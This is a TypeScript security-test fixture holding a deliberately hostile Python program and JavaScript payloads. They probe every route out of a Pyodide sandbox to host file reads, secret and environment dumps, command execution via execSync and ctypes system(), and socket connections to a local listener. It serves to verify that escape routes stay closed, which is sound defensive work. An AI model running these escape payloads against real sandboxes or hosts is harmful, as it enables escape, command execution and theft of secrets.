// A hostile Python program (issue 14, decision 0026): every route from Python
// to a JavaScript value, and through whatever it reaches, every prize the host
// has. Shared by test/security/python.test.ts (Node) and
// e2e/security-python.spec.ts (Chromium).
//
// `python3 /tmp/routes.py GROUP HOSTDIR PORT` prints one line per route:
// `ROUTE name {"open": bool, "got": "..."}` — `open` when the route handed
// Python a JavaScript value (or ran host code), `got` what the prize attempts
// reported. Prize files go to HOSTDIR (a host directory the VM cannot see) as
// `written-<route>` and `spawned-<route>`; connections to the host's listener
// on PORT carry the route's name.

/** JavaScript run in the worker's realm through any JavaScript value Python holds. */
const REALM_PRIZES = String.raw`
const got = [];
const file = (n) => hostdir + '/' + n + '-' + route;
const use = (name, m) => {
  if (!m) return;
  try { if (name === 'fs') { got.push('read:' + m.readFileSync(hostdir + '/secret.txt', 'utf8')); m.writeFileSync(file('written'), 'pwned'); } } catch (e) {}
  try { if (name === 'child_process') { m.execSync('touch ' + file('spawned')); got.push('spawned'); } } catch (e) {}
  try { if (name === 'net') { m.connect(port, '127.0.0.1').on('error', () => {}).end(route); got.push('net'); } } catch (e) {}
};
const requires = [() => globalThis.require, () => globalThis.process && globalThis.process.getBuiltinModule, () => globalThis.module && globalThis.module.require];
for (const get of requires) {
  let r;
  try { r = get(); } catch (e) {}
  if (typeof r === 'function') for (const n of ['fs', 'child_process', 'net']) { try { use(n, r('node:' + n)); } catch (e) {} }
}
try { got.push('env:' + JSON.stringify(globalThis.process.env)); } catch (e) {}
try { got.push('binding:' + typeof globalThis.process.binding('fs')); } catch (e) {}
for (const n of ['fs', 'child_process', 'net']) {
  try { import('node:' + n).then((m) => use(n, m.default || m), () => {}); } catch (e) {}
}
try { new WebSocket('ws://127.0.0.1:' + port + '/' + route); got.push('WebSocket'); } catch (e) {}
try { fetch('http://127.0.0.1:' + port + '/' + route).catch(() => {}); } catch (e) {}
try { fetch('/index.html').then((r) => r.ok && fetch('http://127.0.0.1:' + port + '/' + route + '-fetch-origin')).catch(() => {}); } catch (e) {}
try { globalThis.indexedDB.open('agentos'); got.push('indexedDB'); } catch (e) {}
try { globalThis.postMessage({ type: 'idle' }); got.push('postMessage'); } catch (e) {}
try { globalThis.importScripts('data:text/javascript,0'); got.push('importScripts'); } catch (e) {}
try { new globalThis.Worker('data:text/javascript,0'); got.push('Worker'); } catch (e) {}
try { globalThis.caches.open('x'); got.push('caches'); } catch (e) {}
return got.join(' ');
`;

/** Through Pyodide's API object (pyodide_js._api): its Node-only paths. */
const API_PRIZES = String.raw`
api.initializeNodeSockFS().then(() => {
  const I = api.public_api.FS.filesystems.NODESOCKFS;
  const s = I.createSocket(2, 1, 0);
  return s.sock_ops.connectAsync(s, '127.0.0.1', port).then(() => s.sock_ops.sendmsgAsync(s, new TextEncoder().encode(route)));
}).catch(() => {});
api.loadBinaryFile(hostdir + '/secret.txt').then((b) => { api.public_api.FS.writeFile('/tmp/stolen-' + route, b); }, () => {});
return 'api';
`;

export const ROUTES_PY = String.raw`
import sys, os, json, gc
GROUP, HOSTDIR, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
REALM_PRIZES = ${JSON.stringify(REALM_PRIZES)}
API_PRIZES = ${JSON.stringify(API_PRIZES)}

def is_js(v):
    '''A JavaScript value (Pyodide's JsProxy), told without importing Pyodide.'''
    try:
        return any(c.__name__ == 'JsProxy' for c in type(v).__mro__)
    except Exception:
        return False

def through_js(h, route):
    '''From any JavaScript value to its realm's Function, then every prize.'''
    got = []
    try:
        F = h
        for _ in range(4):
            if getattr(F, 'name', None) == 'Function': break
            F = F.constructor
        got.append(str(F('hostdir', 'port', 'route', REALM_PRIZES)(HOSTDIR, PORT, route)))
    except Exception as e:
        got.append('realm: ' + type(e).__name__)
    return ' '.join(got)

def through_api(api, route):
    '''Pyodide's API object: mount the host's directory, its Node sockets, its file loader.'''
    got = []
    try:
        api.public_api.mountNodeFS('/hostmnt-' + route, HOSTDIR)
        got.append('read:' + open('/hostmnt-' + route + '/secret.txt').read())
        open('/hostmnt-' + route + '/written-' + route, 'w').write('pwned')
    except Exception as e:
        got.append('mountNodeFS: ' + type(e).__name__)
    try:
        F = api.constructor.constructor
        got.append(str(F('api', 'hostdir', 'port', 'route', API_PRIZES)(api, HOSTDIR, PORT, route)))
    except Exception as e:
        got.append('api: ' + type(e).__name__)
    return ' '.join(got) + ' ' + through_js(api, route)

def report(route, handle=None, got=''):
    '''handle: the JavaScript value the route gave (None: closed).'''
    is_open = handle is not None
    if is_open:
        api = handle if route in ('sys.modules', 'pyodide_js') else None
        got = (got + ' ' + (through_api(api, route) if api is not None else through_js(handle, route))).strip()
    print('ROUTE', route, json.dumps({'open': is_open, 'got': got}), flush=True)

def first_js(values):
    for v in values:
        if is_js(v): return v
    return None

def attempt(route, find):
    try:
        h = find()
    except Exception as e:
        return report(route, None, type(e).__name__)
    report(route, h)

JS_NAMES = ('js', 'pyodide_js', '_pyodide_core', '_pyodide', 'pyodide')

def in_modules():
    mods = [m for k, m in list(sys.modules.items()) if k.partition('.')[0] in JS_NAMES and m is not None]
    return first_js(mods) or first_js(v for m in mods if not is_js(m) for v in list(vars(m).values()))

def pyodide_js():
    return sys.modules.get('pyodide_js._api') or __import__('pyodide_js')._api

def js_module():
    import js
    return js if is_js(js) else first_js(vars(js).values())

def ffi():
    from pyodide.ffi import to_js
    return to_js({})

def run_js():
    from pyodide.code import run_js
    return run_js('globalThis')

def importhook():
    from _pyodide._importhook import jsfinder
    return first_js(jsfinder.jsproxies.values())

def core():
    import _pyodide_core
    return _pyodide_core.to_js({})

def finders():
    for f in sys.meta_path:
        for v in list(vars(f).values()) if hasattr(f, '__dict__') else []:
            h = first_js(v.values()) if isinstance(v, dict) else (v if is_js(v) else None)
            if h is not None: return h
    return None

def builtins_scan():
    import builtins
    return first_js(vars(builtins).values())

def gc_scan():
    objs = gc.get_objects()
    return first_js(objs) or first_js(r for o in objs for r in gc.get_referents(o))

def frames():
    f = sys._getframe()
    try:
        raise RuntimeError
    except RuntimeError as e:
        tb_frames = [e.__traceback__.tb_frame]
    seen = []
    for start in [f] + tb_frames:
        while start is not None:
            seen.append(start)
            start = start.f_back
    return first_js(v for fr in seen for d in (fr.f_globals, fr.f_locals) for v in list(d.values()))

def recreated_core():
    '''Still open, by design: Pyodide's core module made again through importlib's internals.'''
    import _imp, importlib.machinery as im
    return _imp.create_builtin(im.ModuleSpec('_pyodide_core', im.BuiltinImporter)).to_js({})

def ctypes_route():
    import ctypes
    lib = ctypes.CDLL(None)
    got = []
    got.append('system:%d' % lib.system(('touch %s/spawned-ctypes; env > %s/written-ctypes' % (HOSTDIR, HOSTDIR)).encode()))
    got.append('run_script:%d' % lib.emscripten_run_script_int(b'6*7'))
    return got

def sockets():
    import socket, urllib.request, http.client
    def create_connection():
        s = socket.create_connection(('127.0.0.1', PORT), timeout=2)
        s.sendall(b'socket.create_connection')
    def connect():
        s = socket.socket()
        s.settimeout(2)
        s.connect(('127.0.0.1', PORT))
        s.sendall(b'socket.connect')
    def urlopen():
        urllib.request.urlopen('http://127.0.0.1:%d/urllib' % PORT, timeout=2)
    def http_client():
        c = http.client.HTTPConnection('127.0.0.1', PORT, timeout=2)
        c.request('GET', '/http.client')
    def emscripten_socket():
        # Emscripten's own socket type, which the kernel's module keeps for its pure helpers (inet_pton...).
        s = sys.modules['_socket']._c.socket()
        s.connect(('127.0.0.1', PORT))
        s.sendall(b'emscripten')
    for name, f in (('socket.create_connection', create_connection), ('socket.connect', connect), ('urllib.request', urlopen),
                    ('http.client', http_client), ('emscripten._socket', emscripten_socket)):
        try:
            f()
            print('SOCKET', name, json.dumps('connected'), flush=True)
        except OSError as e:
            err = getattr(e, 'reason', e)
            print('SOCKET', name, json.dumps('%s: %s' % (type(err).__name__, getattr(err, 'strerror', None) or err)), flush=True)

if GROUP in ('routes', 'all'):
    for route, find in (('sys.modules', in_modules), ('pyodide_js', pyodide_js), ('js', js_module), ('pyodide.ffi', ffi),
                        ('pyodide.code.run_js', run_js), ('_pyodide', importhook), ('_pyodide_core', core),
                        ('sys.meta_path', finders), ('__builtins__', builtins_scan), ('gc.get_objects', gc_scan),
                        ('frames', frames), ('_imp.create_builtin', recreated_core)):
        attempt(route, find)
    try:
        got = ctypes_route()
        print('ROUTE ctypes', json.dumps({'open': got[0] == 'system:0', 'got': ' '.join(got)}), flush=True)
    except Exception as e:
        print('ROUTE ctypes', json.dumps({'open': False, 'got': type(e).__name__}), flush=True)
if GROUP in ('sockets', 'all'):
    sockets()
`;

export interface RouteResult {
  open: boolean;
  got: string;
}

/** The `ROUTE` lines of the program's output, by route. */
export function parseRoutes(stdout: string): Map<string, RouteResult> {
  const out = new Map<string, RouteResult>();
  for (const m of stdout.matchAll(/^ROUTE (\S+) (.*)$/gm)) out.set(m[1], JSON.parse(m[2]) as RouteResult);
  return out;
}

/** The `SOCKET` lines: what each way of connecting said. */
export function parseSockets(stdout: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const m of stdout.matchAll(/^SOCKET (\S+) (.*)$/gm)) out.set(m[1], JSON.parse(m[2]) as string);
  return out;
}

/** Every route the program tries, with whether it must be closed now (the one open by design leads nowhere). */
export const ROUTES: [name: string, closed: boolean][] = [
  ['sys.modules', true], ['pyodide_js', true], ['js', true], ['pyodide.ffi', true], ['pyodide.code.run_js', true],
  ['_pyodide', true], ['_pyodide_core', true], ['sys.meta_path', true], ['__builtins__', true], ['gc.get_objects', true],
  ['frames', true], ['ctypes', true], ['_imp.create_builtin', false],
];

/** In a route's report: a prize the realm handed over (what reached the host shows on the host itself). */
export const REALM_PRIZE = /read:|spawned|binding:|\bnet\b|WebSocket|indexedDB|postMessage|importScripts|Worker|caches/;

export const SOCKET_WAYS = ['socket.create_connection', 'socket.connect', 'urllib.request', 'http.client', 'emscripten._socket'];
